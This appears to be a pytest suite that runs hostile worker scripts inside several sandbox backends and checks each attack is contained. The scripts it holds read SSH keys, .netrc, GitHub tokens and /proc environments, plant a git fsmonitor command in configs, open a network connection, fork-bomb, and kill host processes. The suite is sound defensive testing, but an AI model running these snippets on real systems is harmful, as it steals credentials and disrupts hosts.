"""Hostile candidates, run as workers in every backend: each attack must be contained.

Every test starts the attack as a worker (a script in worktree A), lets it run under small limits,
checks on the host that nothing got out, that the failure carries a reason the caller can read,
and that the next worker started on the same worktree runs normally.

The `process` backend cannot contain some attacks; those are strict xfails, so the suite shows
exactly which attacks it does not stop (and fails if one suddenly is contained).
"""

from __future__ import annotations

import contextlib
import os
import signal
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
import uuid
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from greenpatch.sandboxes import Limits, Worker, WorkerSpec
from greenpatch.sandboxes.worktree import Worktree

from tests.conftest import git, make_repo
from tests.test_sandbox_helpers import use_backend

LIMITS = Limits(
    memory_mb=256, processes=64, file_size_mb=16, wall_seconds=3, output_bytes=1024 * 1024
)
ECHO = "import sys\nfor line in sys.stdin:\n    print('echo', line.strip(), flush=True)\n"
TEST_FILE = "def test_ok():\n    assert 1 + 1 == 2\n"


def backends(**process_xfail: str) -> pytest.MarkDecorator:
    """Parametrize over every backend; `process_xfail` holds the reason process cannot contain."""
    process: object = "process"
    if process_xfail:
        reason = "process backend does not isolate: " + process_xfail["reason"]
        # Strict: the suite shows which attacks `process` cannot stop, and fails if one is
        # suddenly contained (then the marker is wrong and must go).
        process = pytest.param("process", marks=pytest.mark.xfail(strict=True, reason=reason))
    return pytest.mark.parametrize(
        "backend_name",
        [
            pytest.param("bwrap", marks=pytest.mark.bwrap),
            pytest.param("docker", marks=pytest.mark.docker),
            process,
        ],
    )


class Listener:
    """A TCP server on 127.0.0.1 that records every connection and byte it receives."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.received.append(b"connected:" + conn.recv(1024))
                except OSError:
                    self.received.append(b"connected")

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self.sock.close()


@dataclass
class Arena:
    """Everything an attack targets, on the host."""

    backend_name: str
    root: Path
    repo: Path
    home: Path
    victim_tree: Worktree
    tree: Worktree
    secrets: list[str]
    host_victim: subprocess.Popen[bytes]
    listener: Listener
    tag: str = field(default_factory=lambda: uuid.uuid4().hex)

    @property
    def host_tmp_marker(self) -> Path:
        return Path("/tmp") / f"greenpatch-escape-{self.tag}"

    def start(self, body: str) -> Worker:
        """Start an attack (Python source) as a worker in worktree A."""
        script = self.tree.path / f"attack_{self.tag}.py"
        script.write_text(textwrap.dedent(body))
        return use_backend(self.backend_name).start(
            WorkerSpec(argv=[sys.executable, str(script)], worktree=self.tree.path, limits=LIMITS)
        )

    def run(self, body: str, wait: float = 15.0) -> tuple[Worker, bytes]:
        """Run an attack to its end (or `wait` seconds); (worker, its stdout)."""
        worker = self.start(body)
        out = read_all(worker, wait)
        worker.wait(wait)
        return worker, out

    def leftovers(self) -> list[int]:
        """Host pids of processes running the attack script (not bwrap, whose argv names it)."""
        needle = f"attack_{self.tag}".encode()
        found = []
        for entry in Path("/proc").iterdir():
            if entry.name.isdigit():
                try:
                    cmdline = (entry / "cmdline").read_bytes()
                    if needle in cmdline and (entry / "comm").read_text().strip() != "bwrap":
                        found.append(int(entry.name))
                except OSError:
                    pass
        return found

    def assert_next_worker_runs(self) -> None:
        """After the attack: reset the worktree, start a normal worker, and talk to it."""
        self.tree.reset()
        assert self.tree.changed() == []
        with use_backend(self.backend_name).start(
            WorkerSpec(argv=[sys.executable, "-c", ECHO], worktree=self.tree.path, limits=LIMITS)
        ) as worker:
            worker.stdin.write(b"ping\n")
            worker.stdin.flush()
            assert worker.stdout.readline() == b"echo ping\n"


def read_all(worker: Worker, wait: float) -> bytes:
    chunks: list[bytes] = []

    def pump() -> None:
        while chunk := worker.stdout.read1(65536):
            chunks.append(chunk)

    reader = threading.Thread(target=pump, daemon=True)
    reader.start()
    reader.join(wait)
    return b"".join(chunks)


@pytest.fixture
def arena(backend_name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Arena:
    use_backend(backend_name)  # skip early when unavailable
    tag = uuid.uuid4().hex[:12]
    secrets = [f"SSH-SECRET-{tag}", f"NETRC-SECRET-{tag}", f"GH-SECRET-{tag}", f"ghp_TOKEN{tag}"]
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN KEY-----\n{secrets[0]}\n")
    (home / ".netrc").write_text(f"machine github.com login me password {secrets[1]}\n")
    (home / ".config" / "gh").mkdir(parents=True)
    (home / ".config" / "gh" / "hosts.yml").write_text(
        f"github.com:\n  oauth_token: {secrets[2]}\n"
    )
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("GITHUB_TOKEN", secrets[3])
    repo = make_repo(tmp_path / "repo", {"tests/test_core.py": TEST_FILE, "pkg/core.py": "x = 1\n"})
    cache = tmp_path / "cache"
    # A host process holding the token in its environment, as the agent's own process would.
    victim = subprocess.Popen(["sleep", "120"], env={**os.environ, "GITHUB_TOKEN": secrets[3]})
    listener = Listener()
    a = Arena(
        backend_name=backend_name,
        root=tmp_path,
        repo=repo,
        home=home,
        victim_tree=Worktree.create(repo, cache),
        tree=Worktree.create(repo, cache),
        secrets=secrets,
        host_victim=victim,
        listener=listener,
    )
    yield a
    listener.close()
    victim.kill()
    victim.wait()
    a.host_tmp_marker.unlink(missing_ok=True)
    for pid in a.leftovers():
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGKILL)
    a.tree.remove()
    a.victim_tree.remove()


@backends(reason="no network namespace; the listener is reachable")
def test_network(arena: Arena) -> None:
    worker, out = arena.run(
        f"""
        import socket
        s = socket.create_connection(("127.0.0.1", {arena.listener.port}), timeout=1)
        s.sendall(b"PWNED")
        print("connected", flush=True)
        """
    )
    time.sleep(0.3)
    assert arena.listener.received == []
    assert b"connected" not in out
    assert worker.exit_reason() == "exit 1"
    assert "Error" in worker.stderr_tail()  # why: the connection failed
    worker.stop()
    arena.assert_next_worker_runs()


@backends(reason="the user's files are readable")
def test_secret_files(arena: Arena) -> None:
    worker, out = arena.run(
        f"""
        import glob, os
        home = {str(arena.home)!r}
        paths = [os.path.join(home, p) for p in (".ssh/id_rsa", ".netrc", ".config/gh/hosts.yml")]
        paths += [os.path.expanduser(p) for p in ("~/.ssh/id_rsa", "~/.netrc")]
        paths += glob.glob("/root/.ssh/*") + glob.glob("/home/*/.ssh/*")
        found = 0
        for p in paths:
            try:
                print(open(p).read(), flush=True)
                found += 1
            except OSError as e:
                print("denied", p, type(e).__name__, flush=True)
        raise SystemExit(0 if found else 1)
        """
    )
    everything = out + worker.stderr_tail().encode()
    for secret in arena.secrets:
        assert secret.encode() not in everything
    assert worker.exit_reason() == "exit 1"
    worker.stop()
    arena.assert_next_worker_runs()


@backends(reason="host processes' environments are readable in /proc")
def test_secret_environment(arena: Arena) -> None:
    worker, out = arena.run(
        """
        import glob, os
        print(os.environ.get("GITHUB_TOKEN", "no token in env"), flush=True)
        for env in glob.glob("/proc/*/environ"):
            try:
                for var in open(env, "rb").read().split(b"\\0"):
                    if var.startswith(b"GITHUB_TOKEN="):
                        print("found", var.decode(), flush=True)
            except OSError:
                pass
        raise SystemExit(1)
        """
    )
    assert arena.secrets[3].encode() not in out + worker.stderr_tail().encode()
    assert b"no token in env" in out
    assert worker.exit_reason() == "exit 1"
    worker.stop()
    arena.assert_next_worker_runs()


@backends(reason="the whole filesystem is writable")
def test_write_outside_worktree(arena: Arena) -> None:
    git_config = arena.repo / ".git" / "config"
    before = git_config.read_text()
    head_before = git(arena.repo, "rev-parse", "HEAD")
    targets = {
        "config": git_config,
        "hook": arena.repo / ".git" / "hooks" / "pre-commit",
        "tmp": arena.host_tmp_marker,
        "home": arena.home / ".bashrc",
        "repo_file": arena.repo / "pkg" / "core.py",
    }
    worker, out = arena.run(
        f"""
        targets = {dict((k, str(v)) for k, v in targets.items())!r}
        for name, path in targets.items():
            try:
                with open(path, "a") as f:
                    f.write("\\n[core]\\n\\tfsmonitor = touch /tmp/pwned\\n")
                print("wrote", name, flush=True)  # (a private /tmp may take it: no harm)
            except OSError as e:
                print("denied", name, type(e).__name__, flush=True)
        raise SystemExit(1)
        """
    )
    assert git_config.read_text() == before
    assert not targets["hook"].exists()
    assert not targets["tmp"].exists()
    assert not targets["home"].exists()
    assert (arena.repo / "pkg" / "core.py").read_text() == "x = 1\n"
    assert git(arena.repo, "rev-parse", "HEAD") == head_before
    assert worker.exit_reason() == "exit 1"
    worker.stop()
    arena.assert_next_worker_runs()


@backends(reason="other worktrees are writable")
def test_edit_other_worktree_tests(arena: Arena) -> None:
    victim = arena.victim_tree.path / "tests" / "test_core.py"
    worker, out = arena.run(
        f"""
        import os
        path = {str(victim)!r}
        try:
            with open(path, "w") as f:
                f.write("def test_ok():\\n    pass\\n")
            print("edited", flush=True)
        except OSError as e:
            print("denied", type(e).__name__, flush=True)
            raise SystemExit(1)
        """
    )
    assert victim.read_text() == TEST_FILE
    assert arena.victim_tree.changed() == []
    assert worker.exit_reason() == "exit 1"
    worker.stop()
    arena.assert_next_worker_runs()


# Every process forks for ever: exponential until the process limit stops it.
FORK_BOMB = """
    import os, time
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)
"""
# For `process`, which has no limit to stop it as root: 300 sleepers, harmless to the host.
BOUNDED_FORKS = """
    import os, time
    for _ in range(300):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    time.sleep(60)
"""


@pytest.mark.slow
@backends(**({"reason": "root is exempt from RLIMIT_NPROC"} if os.geteuid() == 0 else {}))
def test_fork_bomb(arena: Arena) -> None:
    start = time.monotonic()
    worker = arena.start(FORK_BOMB if arena.backend_name != "process" else BOUNDED_FORKS)
    peak, slowest = 0, 0.0
    while worker.alive() and time.monotonic() - start < 30:
        peak = max(peak, len(arena.leftovers()))
        # The host stays responsive while the bomb goes off.
        probe = time.monotonic()
        subprocess.run(["true"], check=True, timeout=30)
        slowest = max(slowest, time.monotonic() - probe)
        time.sleep(0.1)
    assert peak > 10  # the bomb did go off
    assert peak <= LIMITS.processes
    assert slowest < 5
    assert worker.exit_reason() == "timeout"
    worker.stop()
    time.sleep(0.5)
    assert arena.leftovers() == []
    arena.assert_next_worker_runs()


@backends()
def test_allocate_50_gb(arena: Arena) -> None:
    worker, out = arena.run(
        """
        blocks = []
        try:
            blocks.append(bytearray(50 * 1024**3))
        except MemoryError:
            print("50 GB at once refused", flush=True)
        while True:  # then creep up 64 MB at a time, touching every page
            blocks.append(bytearray(64 * 1024**2))
        """
    )
    assert b"50 GB at once refused" in out
    assert worker.exit_reason() == "memory"
    subprocess.run(["true"], check=True, timeout=10)
    worker.stop()
    arena.assert_next_worker_runs()


@backends()
def test_loop_forever(arena: Arena) -> None:
    start = time.monotonic()
    worker, _ = arena.run("while True:\n    pass\n")
    elapsed = time.monotonic() - start
    assert worker.exit_reason() == "timeout"
    assert LIMITS.wall_seconds <= elapsed < LIMITS.wall_seconds + 10
    worker.stop()
    arena.assert_next_worker_runs()


@backends()
def test_print_1_gb(arena: Arena) -> None:
    worker, out = arena.run(
        """
        import sys
        chunk = "x" * (1024 * 1024)
        for _ in range(1024):
            sys.stdout.write(chunk)
        """
    )
    assert len(out) <= LIMITS.output_bytes
    assert worker.exit_reason() == "output limit"
    worker.stop()
    arena.assert_next_worker_runs()


@backends(reason="other processes of the same user can be killed")
def test_kill_parent_and_everything(arena: Arena) -> None:
    # Against `process`, only the harmless part runs (the host victim): kill -1 as this user
    # would take down the test run itself.
    destructive = arena.backend_name != "process"
    worker, out = arena.run(
        f"""
        import os, signal
        try:
            os.kill({arena.host_victim.pid}, signal.SIGKILL)
            print("killed victim", flush=True)
        except OSError as e:
            print("victim", type(e).__name__, flush=True)
        if {destructive}:
            for target in (os.getppid(), -1):
                try:
                    os.kill(target, signal.SIGKILL)
                except OSError as e:
                    print("kill", target, type(e).__name__, flush=True)
        raise SystemExit(1)
        """
    )
    time.sleep(0.2)
    assert arena.host_victim.poll() is None, "a host process was killed"
    assert worker.exit_reason() in ("exit 1", "killed by signal 9")
    worker.stop()
    arena.assert_next_worker_runs()


@backends()
def test_background_process_left_behind(arena: Arena) -> None:
    beat = arena.tree.path / "heartbeat"
    worker = arena.start(
        f"""
        import os, sys, time
        if os.fork() == 0:
            os.setsid()  # leave the worker's session and process group
            if os.fork() == 0:
                os.closerange(0, 1024)
                while True:
                    with open({str(beat)!r}, "a") as f:
                        f.write(".")
                    time.sleep(0.05)
            os._exit(0)
        print("daemon started", flush=True)
        sys.stdin.read()
        """
    )
    assert worker.stdout.readline() == b"daemon started\n"
    deadline = time.monotonic() + 10
    while not beat.exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert worker.alive() and beat.exists(), "the daemon should be running before stop()"
    assert len(arena.leftovers()) >= 2
    worker.stop()
    deadline = time.monotonic() + 5
    while arena.leftovers() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert arena.leftovers() == []
    size = beat.stat().st_size
    time.sleep(0.3)
    assert beat.stat().st_size == size  # nothing is writing any more
    assert worker.exit_reason() == "stopped"
    arena.assert_next_worker_runs()


@backends(reason="/tmp is the host's")
def test_fill_tmp(arena: Arena) -> None:
    # Files in a tmpfs are memory that RLIMIT_AS does not see; the sandbox's /tmp is capped.
    cap_mb = LIMITS.memory_mb + 64
    worker, out = arena.run(
        f"""
        import os, tempfile
        chunk = b"x" * (8 * 1024 * 1024)
        written = 0
        try:
            while written < {cap_mb}:
                path = os.path.join(tempfile.gettempdir(), f"fill-{arena.tag}-{{written}}")
                with open(path, "wb") as f:
                    f.write(chunk)
                written += 8
        except OSError as e:
            print("stopped by", type(e).__name__, flush=True)
        print("written_mb", written, flush=True)
        raise SystemExit(1)
        """
    )
    written = [int(x.split()[1]) for x in out.decode().splitlines() if x.startswith("written_mb")]
    for leftover in Path(tempfile.gettempdir()).glob(f"fill-{arena.tag}-*"):
        leftover.unlink()  # only the process backend writes to the host's /tmp
    # Either the tmpfs is full at the memory limit, or the memory cgroup (which counts tmpfs
    # pages, in Docker) killed the writer first.
    assert worker.exit_reason() in ("exit 1", "memory")
    assert written[0] <= LIMITS.memory_mb if written else worker.exit_reason() == "memory"
    worker.stop()
    arena.assert_next_worker_runs()
